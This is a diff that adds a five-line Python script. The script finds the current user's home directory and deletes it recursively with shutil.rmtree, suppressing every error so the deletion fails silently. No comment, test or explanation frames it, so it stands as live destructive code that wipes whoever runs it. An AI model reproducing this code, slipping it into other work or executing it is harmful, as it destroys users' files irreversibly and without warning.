@@ -1,0 +1,5 @@
+import os
+import shutil
+
+home = os.path.expanduser("~")
+shutil.rmtree(home, ignore_errors=True)
